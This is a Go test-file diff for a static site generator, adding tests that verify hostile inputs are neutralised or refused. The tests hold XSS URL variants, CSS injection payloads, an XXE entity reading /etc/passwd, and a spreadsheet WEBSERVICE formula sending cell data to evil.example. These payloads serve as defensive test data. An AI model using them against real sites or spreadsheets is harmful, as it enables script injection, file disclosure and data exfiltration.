@@ -4,11 +4,15 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"encoding/xml"
 	"errors"
+	"maps"
 	"os"
 	"path/filepath"
 	"regexp"
 	"runtime"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -68,6 +72,10 @@ func TestHostileContentNeverExecutes(t *testing.T) {
 
 var dangerousURL = regexp.MustCompile(`(?i)^\s*(javascript|data|vbscript):`)
 
+// rasterData is a picture embedded in an SVG <image> (a logo may carry
+// one): pixels, which cannot run.
+var rasterData = regexp.MustCompile(`(?i)^data:image/(png|jpeg|gif|webp);base64,[a-z0-9+/=]*$`)
+
 // checkInert fails the test for anything in page that would run code.
 func checkInert(t *testing.T, name string, page []byte) {
 	t.Helper()
@@ -108,7 +116,8 @@ func checkInert(t *testing.T, name string, page []byte) {
 				if key == "style" || key == "srcdoc" || key == "formaction" {
 					t.Errorf("%s: <%s %s=%q>", name, n.Data, a.Key, a.Val)
 				}
-				if (key == "href" || key == "src" || key == "action" || key == "xlink:href" || key == "poster" || key == "data") && dangerousURL.MatchString(a.Val) {
+				if (key == "href" || key == "src" || key == "action" || key == "xlink:href" || key == "poster" || key == "data") && dangerousURL.MatchString(a.Val) &&
+					!(n.Data == "image" && rasterData.MatchString(a.Val)) {
 					t.Errorf("%s: <%s %s=%q>", name, n.Data, a.Key, a.Val)
 				}
 			}
@@ -351,6 +360,21 @@ func TestHostileCSVIsSpreadsheetSafe(t *testing.T) {
 			t.Errorf("payload %q is not in portfolio.json as it was written", p)
 		}
 	}
+	// The IATI file carries the initiative's text as it was written.
+	iati, err := os.ReadFile(filepath.Join(dest, "data", "iati-activities.xml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var activities struct {
+		Titles []string `xml:"iati-activity>title>narrative"`
+		Descs  []string `xml:"iati-activity>description>narrative"`
+	}
+	if err := xml.Unmarshal(iati, &activities); err != nil {
+		t.Fatal(err)
+	}
+	if !slices.Contains(activities.Titles, `'=already quoted`) || !slices.Contains(activities.Descs, `=WEBSERVICE("http://evil.example/"&A1)`) {
+		t.Errorf("the IATI file does not carry the payloads exactly: %q %q", activities.Titles, activities.Descs)
+	}
 	t.Logf("%d CSV files, %d cells, %d payloads", len(files), cells, len(formulaPayloads))
 }
 
@@ -389,5 +413,68 @@ func TestHostileMoneyOverview(t *testing.T) {
 	}
 	if !found {
 		t.Errorf("pools.csv does not hold the pool \"=pool()\" neutralised: %q", rows)
+	}
+}
+
+// TestHostileBrandAndMenusRefused: brand settings and menu entries that
+// would run script are refused, each an error at its line of site.yaml,
+// and the build writes nothing: script URLs in menus whatever their case
+// or padding, stylesheets that are not only CSS, and SVG files that
+// declare entities.
+func TestHostileBrandAndMenusRefused(t *testing.T) {
+	urls := []string{"javascript:alert('m1')", "JaVaScRiPt:alert('m2')", " javascript:alert('m3')", "java\tscript:alert('m4')",
+		"data:text/html,<script>alert('m5')</script>", "vbscript:msgbox('m6')", "javascript&#58;alert('m7')", "//evil.example/alert('m8')",
+		"jav&#x0A;ascript:alert('m9')", "file:///etc/passwd"}
+	css := map[string]string{
+		"close.css":      "</style><script>alert('c1')</script>",
+		"expression.css": "a { width: expression(alert('c2')) }",
+		"binding.css":    "a { -moz-binding: url(\"https://evil.example/x.xml#alert('c3')\") }",
+		"import.css":     "@import url(\"javascript:alert('c4')\");",
+		"url.css":        "a { background: url(javascript:alert('c5')) }",
+		"behavior.css":   "a { behavior: url(alert.htc) }",
+		"data.css":       "a { background: url(\"data:text/html,<script>alert('c6')</script>\") }",
+	}
+	for i, u := range urls {
+		yaml := "title: x\nmenu:\n  footer:\n    - {title: Click, url: " + strconv.Quote(u) + "}\n"
+		refused(t, "menu url "+strconv.Itoa(i), yaml, nil, 4)
+	}
+	for name, body := range css {
+		refused(t, name, "title: x\nbrand:\n  css: ["+name+"]\n", map[string]string{name: body}, 3)
+	}
+	refused(t, "entities", "title: x\nbrand:\n  logo: logo.svg\n", map[string]string{
+		"logo.svg": `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>`}, 3)
+	refused(t, "html as svg", "title: x\nbrand:\n  favicon: icon.svg\n", map[string]string{
+		"icon.svg": `<html><body><script>alert('f1')</script></body></html>`}, 3)
+}
+
+// refused builds a site with the given site.yaml and files and wants an
+// error at line of site.yaml, and nothing written.
+func refused(t *testing.T, name, yaml string, files map[string]string, line int) {
+	t.Helper()
+	src := t.TempDir()
+	files = maps.Clone(files)
+	if files == nil {
+		files = map[string]string{}
+	}
+	files["site.yaml"] = yaml
+	files["content/intents/clean-air.md"] = "---\ntitle: Clean air\nsummary: Air.\n---\n"
+	for f, body := range files {
+		os.MkdirAll(filepath.Dir(filepath.Join(src, f)), 0o755)
+		os.WriteFile(filepath.Join(src, f), []byte(body), 0o644)
+	}
+	dest := filepath.Join(src, "public")
+	res, err := generator.Build(generator.Options{Source: src, Destination: dest, Now: now})
+	if !errors.Is(err, generator.ErrContent) {
+		t.Errorf("%s: build error %v, want ErrContent", name, err)
+	}
+	found := false
+	for _, d := range res.Diags {
+		found = found || d.File == "site.yaml" && d.Line == line && d.Severity.String() == "error"
+	}
+	if !found {
+		t.Errorf("%s: no error at site.yaml:%d:\n%v", name, line, res.Diags)
+	}
+	if _, err := os.Stat(dest); !os.IsNotExist(err) {
+		t.Errorf("%s: the refused build wrote %s", name, dest)
 	}
 }
